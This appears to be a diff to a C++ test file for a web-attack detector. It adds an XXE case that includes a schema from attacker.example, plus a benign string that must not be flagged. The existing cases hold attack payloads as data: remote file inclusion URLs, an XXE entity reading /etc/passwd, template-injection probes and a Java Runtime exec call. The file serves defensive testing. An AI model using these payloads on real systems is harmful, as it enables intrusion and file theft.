@@ -45,6 +45,9 @@ INSTANTIATE_TEST_SUITE_P(
         Case{"http://66.240.183.75/crash.php", Category::kRfi},
         Case{"https://evil.example/shell.txt?", Category::kRfi},
         Case{"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Category::kXxe},
+        Case{"<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include "
+             "schemaLocation=\"http://attacker.example/s.xsd\"/></xs:schema>",
+             Category::kXxe},
         Case{"{{7*7}}", Category::kSsti},
         Case{"{{''.__class__.__mro__[1].__subclasses__()}}", Category::kSsti},
         Case{"${T(java.lang.Runtime).getRuntime().exec('id')}", Category::kCodeInjection},
@@ -92,7 +95,9 @@ INSTANTIATE_TEST_SUITE_P(
         "\xe6\x9d\xb1\xe4\xba\xac\xe9\x83\xbd\xe6\xb8\x8b\xe8\xb0\xb7\xe5\x8c\xba",
         // Czech 'č' (U+010D) before a word and a colon is just text.
         "Pozn\xc3\xa1mka: \xc4\x8dlink: viz \xc4\x8dhost: n\xc3\xa1v\xc5\xa1t\xc4\x9bva",
-        "HelloWorld1", "Passw0rdAbc"));
+        "HelloWorld1", "Passw0rdAbc",
+        "Split big schemas with <xs:include> and <b>:import</b> the rest, see "
+        "https://docs.example.com/xsd"));
 
 TEST(Detectors, CodeInJsonBodyFromAnEditorIsAllowed) {
   std::string code =
